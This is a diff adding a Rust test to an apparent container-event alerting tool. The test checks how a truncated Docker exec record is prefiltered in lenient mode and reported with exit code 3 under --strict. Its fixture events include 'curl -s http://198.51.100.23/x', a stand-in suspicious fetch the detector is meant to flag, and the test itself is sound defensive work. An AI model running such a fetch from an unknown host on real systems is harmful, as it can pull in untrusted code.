@@ -110,6 +110,41 @@ fn strict_turns_any_skip_into_exit_3() {
 }
 
 #[test]
+fn a_malformed_record_nothing_could_use_is_prefiltered_unless_strict() {
+    // A Docker exec in an allowlisted image, cut off with a trailing comma: the
+    // prefilter reads its action and image and skips it without validating it; under
+    // --strict every record is decoded, so it is a located skip and the exit is 3.
+    let d = Dir::new();
+    let mut text = lines(&chain("worker", "curl -s http://198.51.100.23/x", 40));
+    text.push_str(&format!(
+        "{{\"Type\":\"container\",\"Action\":\"exec_start: sh\",\"Actor\":{{\"ID\":\"{CID}\",\"Attributes\":{{\"image\":\"nginx:1.27\"}}}},\"timeNano\":{},}}\n",
+        (T0 + 50) * NS
+    ));
+    let p = d.file("events.jsonl", text.as_bytes());
+    let lenient = run(&["--format", "json"], &[&p]);
+    assert_eq!(lenient.code, 0, "{}", lenient.stderr);
+    assert_eq!(alerts(&lenient).len(), 1);
+    assert!(
+        lenient.stderr.contains("prefiltered: 1 records"),
+        "{}",
+        lenient.stderr
+    );
+    assert!(
+        lenient.stderr.contains("skipped: none"),
+        "{}",
+        lenient.stderr
+    );
+    let strict = run(&["--format", "json", "--strict"], &[&p]);
+    assert_eq!(strict.code, 3, "{}", strict.stderr);
+    assert_eq!(alerts(&strict).len(), 1);
+    assert!(
+        strict.stderr.contains(&format!("at {}:5: ", p.display())),
+        "{}",
+        strict.stderr
+    );
+}
+
+#[test]
 fn max_line_bytes_skips_long_lines_and_rejects_bad_sizes() {
     let d = Dir::new();
     let mut records = chain("worker", "curl -s http://198.51.100.23/x", 40);
